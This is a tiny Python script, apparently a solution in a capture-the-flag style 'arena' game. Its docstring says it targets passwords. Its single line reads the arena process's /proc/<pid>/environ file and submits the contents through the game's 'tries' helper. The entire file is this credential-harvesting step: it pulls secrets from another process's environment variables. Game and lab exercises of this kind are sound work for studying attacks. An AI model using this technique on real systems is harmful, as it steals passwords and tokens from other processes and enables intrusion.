"""Reads the arena's environment, where passwords are."""

from playing import targets, tries

tries(lambda: open(f"/proc/{targets()['arena']}/environ", "rb").read() or False)
